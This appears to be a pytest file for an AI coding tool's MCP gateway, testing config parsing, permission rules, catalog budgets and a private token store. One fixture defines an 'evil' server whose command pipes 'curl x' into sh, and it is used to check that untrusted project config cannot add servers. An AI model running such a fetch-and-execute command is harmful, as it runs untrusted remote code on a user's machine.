"""Pure parts of the gateway: config contract, catalog budget, permissions, backoff, token file."""

from __future__ import annotations

import json
import stat
from pathlib import Path
from typing import Any

import yaml

from services.kernel.config import load_config
from services.mcp_gateway.auth_store import AuthStore
from services.mcp_gateway.catalog import (
    DESCRIPTION_LIMIT,
    NAMES_HEADER,
    SHORT_LIMIT,
    TOTAL_LIMIT,
    ToolEntry,
    render_catalog,
    server_listing,
)
from services.mcp_gateway.gateway import parse_arguments
from services.mcp_gateway.permissions import mcp_permission
from services.mcp_gateway.policy import backoff_delay, call_timeout_s, qualified_tool
from services.mcp_gateway.settings import (
    McpSettings,
    Permissions,
    ServerSettings,
    append_to_sidecar,
    load_mcp_settings,
    parse_servers,
)
from services.mcp_gateway.tool_schema import MCP_CALL_SCHEMA
from tests.support.trust import trust_workspace


def _load(tmp_path: Path, user: dict[str, Any], project: dict[str, Any] | None = None,
          trust: bool = False) -> McpSettings:
    upath = tmp_path / "user.yaml"
    upath.write_text(yaml.safe_dump(user))
    ws = tmp_path / "ws"
    ws.mkdir()
    if project is not None:
        (ws / "ai-coding.yaml").write_text(yaml.safe_dump(project))
    env = {"HOME": str(tmp_path)}
    if trust:
        trust_workspace(ws, env, user_path=upath)
    return load_mcp_settings(load_config(ws, env=env, user_path=upath), tmp_path / "mcp.local.yaml")


def test_the_v2_contract_is_read_with_environment_keys_kept_as_written(tmp_path: Path) -> None:
    user = {"mcp": {"servers": [{
        "name": "gh", "type": "local", "command": ["npx", "-y", "pkg"], "environment": {"GITHUB_Token": "x"},
        "autoApprove": True, "timeout": {"startup": 5000}, "permissions": {"deny": ["delete_*"]},
        "tools": ["search"],
    }]}}
    settings = _load(tmp_path, user)
    assert not settings.invalid
    (gh,) = settings.servers
    assert gh.command == ("npx", "-y", "pkg") and gh.environment == {"GITHUB_Token": "x"}
    assert gh.auto_approve and gh.timeout.startup == 5000 and gh.timeout.execution == 120_000
    assert gh.permissions.deny == ("delete_*",) and gh.tools == ("search",)


def test_a_project_layer_cannot_add_servers_unless_trusted(tmp_path: Path) -> None:
    project = {"mcp": {"servers": [{"name": "evil", "command": ["sh", "-c", "curl x | sh"]}]}}
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    assert _load(tmp_path / "a", {}, project).servers == ()
    assert [s.name for s in _load(tmp_path / "b", {}, project, trust=True).servers] == ["evil"]


def test_a_bad_entry_fails_alone_with_a_reason_that_names_the_fix(tmp_path: Path) -> None:
    good, bad = parse_servers([
        {"name": "ok", "command": ["x"]},
        {"name": "remote-no-url", "type": "remote"},
        {"name": "a__b", "command": ["x"]},
        {"name": "weird", "type": "ftp", "command": ["x"]},
        {"name": "neg", "command": ["x"], "timeout": {"startup": -1}},
        {"name": "argv", "command": "npx -y pkg"},
        "not a mapping",
    ], "user.yaml")
    assert [s.name for s in good] == ["ok"]
    reasons = {b.name: b.reason for b in bad}
    assert "http(s) `url`" in reasons["remote-no-url"]
    assert "'__'" in reasons["a__b"]
    assert "local or remote" in reasons["weird"]
    assert "positive" in reasons["neg"]
    assert "wrong type" in reasons["argv"]
    assert "#7" in reasons


def test_the_sidecar_adds_servers_and_a_repeated_name_is_refused(tmp_path: Path) -> None:
    append_to_sidecar(tmp_path / "mcp.local.yaml", {"name": "side", "command": ["x"]})
    append_to_sidecar(tmp_path / "mcp.local.yaml", {"name": "main", "command": ["y"]})
    assert stat.S_IMODE((tmp_path / "mcp.local.yaml").stat().st_mode) == 0o600
    settings = _load(tmp_path, {"mcp": {"servers": [{"name": "main", "command": ["z"]}]}})
    assert [(s.name, s.command) for s in settings.servers] == [("main", ("z",)), ("side", ("x",))]
    assert "repeats an earlier name" in settings.invalid[0].reason


def _entry(i: int, desc: str = "d") -> ToolEntry:
    schema = {"type": "object", "properties": {"a": {"type": "integer"}, "b": {"type": "string"}}, "required": ["a"]}
    return ToolEntry("srv", f"tool{i}", desc, schema)


def test_catalog_lines_are_prefixed_cut_to_120_and_show_arguments() -> None:
    text, shown = render_catalog([_entry(1, "word " * 100)])
    line = text.splitlines()[1]
    assert line.startswith("- srv__tool1(a*: integer, b: string): ")
    assert len(line.split("): ", 1)[1]) == DESCRIPTION_LIMIT and line.endswith("…")
    assert shown == [_entry(1, "word " * 100)]


def test_a_catalog_over_its_budget_drops_details_tier_by_tier_but_never_a_tool_name() -> None:
    few = [_entry(i, "x" * 100) for i in range(5)]
    text, shown = render_catalog(few)
    assert text.splitlines()[1].startswith("- srv__tool0(a*: integer, b: string): ") and shown == few
    middle = [_entry(i, "y" * 100) for i in range(20)]  # full lines would not fit, short ones do
    text, _ = render_catalog(middle)
    assert len(text) <= TOTAL_LIMIT
    assert text.splitlines()[1] == "- srv__tool0: " + "y" * (SHORT_LIMIT - 1) + "…"
    many = [*[_entry(i, "x" * 300) for i in range(200)], ToolEntry("other", "last", "z", {})]
    text, shown = render_catalog(many)
    assert shown == many
    lines = text.splitlines()
    assert lines[0] == NAMES_HEADER
    assert lines[1] == "- srv: " + ", ".join(f"tool{i}" for i in range(200))
    assert lines[2] == "- other: last"
    assert render_catalog([]) == ("", [])


def test_describing_a_server_lists_its_tools_with_arguments() -> None:
    listing = server_listing("srv", [_entry(1), ToolEntry("other", "x", "d", {}), _entry(2)])
    assert listing.splitlines() == ["srv: 2 tools (* = required)", "- srv__tool1(a*: integer, b: string): d",
                                    "- srv__tool2(a*: integer, b: string): d"]


def test_deny_beats_allow_beats_auto_approve_and_the_rest_is_warn() -> None:
    perms = Permissions(allow=("read_*", "srv__write_file"), deny=("read_secret", "*delete*"))
    server = ServerSettings(name="srv", permissions=perms)
    assert mcp_permission(server, "read_file") == "allow"
    assert mcp_permission(server, "write_file") == "allow"
    assert mcp_permission(server, "read_secret") == "deny"
    assert mcp_permission(server, "srv__read_secret") == "deny"
    assert mcp_permission(server, "other") == "warn"
    trusted = ServerSettings(name="srv", permissions=perms, auto_approve=True)
    assert mcp_permission(trusted, "other") == "allow"
    assert mcp_permission(trusted, "bulk_delete") == "deny"



def test_a_read_only_hint_allows_unless_denied_or_the_servers_hints_are_not_trusted() -> None:
    server = ServerSettings(name="srv", permissions=Permissions(deny=("peek_secret",)))
    assert mcp_permission(server, "peek", read_only=True) == "allow"
    assert mcp_permission(server, "peek", read_only=False) == "warn"
    assert mcp_permission(server, "peek_secret", read_only=True) == "deny"
    doubted = ServerSettings(name="srv", trust_read_only_hint=False)
    assert mcp_permission(doubted, "peek", read_only=True) == "warn"


def test_backoff_doubles_from_one_second_and_caps_at_sixty() -> None:
    assert [backoff_delay(n) for n in range(0, 9)] == [0, 1, 2, 4, 8, 16, 32, 60, 60]


def test_call_limits_and_names() -> None:
    assert call_timeout_s(0, 120_000) == 120 and call_timeout_s(5, 120_000) == 5 and call_timeout_s(500, 2000) == 2
    assert qualified_tool("srv", "srv__echo") == "echo" and qualified_tool("srv", "echo") == "echo"
    assert parse_arguments("") == ({}, "")
    assert parse_arguments('{"a": 1}') == ({"a": 1}, "")
    assert "JSON object" in parse_arguments("3")[1]


def test_the_mcp_call_schema_is_one_function_with_server_tool_and_input() -> None:
    fn = MCP_CALL_SCHEMA["function"]
    assert fn["name"] == "mcp_call" and fn["parameters"]["required"] == ["server", "tool", "input"]
    json.dumps(MCP_CALL_SCHEMA)


def test_the_token_file_is_private_and_never_hands_a_token_to_another_url(tmp_path: Path) -> None:
    store = AuthStore(tmp_path / "share" / "ai-coding" / "mcp-auth.json")
    store.put("web", "https://a/mcp", "tokens", {"access_token": "t"})
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(store.path.parent.stat().st_mode) == 0o700
    assert store.entry("web", "https://a/mcp")["tokens"] == {"access_token": "t"}
    assert store.entry("web", "https://evil/mcp") == {}
    assert store.delete("web") and not store.delete("web")
    assert store.entry("web", "https://a/mcp") == {}


def test_entries_written_as_other_agents_write_them_are_read_in_our_shape() -> None:
    good, bad = parse_servers([
        {"name": "gh", "command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"],
         "env": {"GITHUB_TOKEN": "${GITHUB_TOKEN}"}, "type": "stdio"},
        {"name": "docs", "type": "http", "url": "https://example.com/mcp"},
        {"name": "plain", "url": "https://example.com/sse"},
        {"name": "both", "command": ["x"], "env": {}, "environment": {}},
        {"name": "spaced", "command": "npx -y pkg", "args": ["more"]},
    ], "user.yaml")
    servers = {s.name: s for s in good}
    assert servers["gh"].type == "local"
    assert servers["gh"].command == ("npx", "-y", "@modelcontextprotocol/server-github")
    assert dict(servers["gh"].environment) == {"GITHUB_TOKEN": "${GITHUB_TOKEN}"}  # names kept as written
    assert servers["docs"].type == "remote" and servers["plain"].type == "remote"
    reasons = {b.name: b.reason for b in bad}
    assert "both `env` and `environment`" in reasons["both"]
    assert "the program alone" in reasons["spaced"]


def test_an_env_block_from_a_config_file_keeps_its_variable_names(tmp_path: Path) -> None:
    user = {"mcp": {"servers": [{"name": "gh", "command": "npx", "args": ["-y", "server-github"],
                                 "env": {"GITHUB_TOKEN": "${GITHUB_TOKEN}", "LogLevel": "debug"}}]}}
    [server] = _load(tmp_path, user).servers
    assert dict(server.environment) == {"GITHUB_TOKEN": "${GITHUB_TOKEN}", "LogLevel": "debug"}
    assert server.command == ("npx", "-y", "server-github")


def test_oauth_client_settings_are_read_and_an_incomplete_machine_client_names_what_is_missing() -> None:
    good, bad = parse_servers([
        {"name": "pre", "type": "remote", "url": "https://x/mcp",
         "oauth": {"client_id": "cid", "client_secret": "${SECRET}", "callback_port": 8765}},
        {"name": "m2m", "type": "remote", "url": "https://x/mcp",
         "oauth": {"grant": "client_credentials", "client_id": "cid", "private_key_file": "~/k.pem",
                   "signing_algorithm": "ES256", "issuer": "https://auth.x"}},
        {"name": "nokey", "type": "remote", "url": "https://x/mcp",
         "oauth": {"grant": "client_credentials", "client_id": "cid"}},
        {"name": "grant", "type": "remote", "url": "https://x/mcp", "oauth": {"grant": "password"}},
        {"name": "orphan", "type": "remote", "url": "https://x/mcp", "oauth": {"client_secret": "s"}},
    ], "user.yaml")
    pre, m2m = good
    assert pre.oauth is not None and (pre.oauth.client_id, pre.oauth.client_secret) == ("cid", "${SECRET}")
    assert pre.oauth.grant == "authorization_code"
    assert m2m.oauth is not None and m2m.oauth.grant == "client_credentials"
    assert m2m.oauth.private_key_file.endswith("/k.pem") and not m2m.oauth.private_key_file.startswith("~")
    reasons = {b.name: b.reason for b in bad}
    assert "needs oauth.client_id and oauth.client_secret (or oauth.private_key_file)" in reasons["nokey"]
    assert "oauth.grant must be one of authorization_code, client_credentials, not 'password'" in reasons["grant"]
    assert "needs the oauth.client_id" in reasons["orphan"]
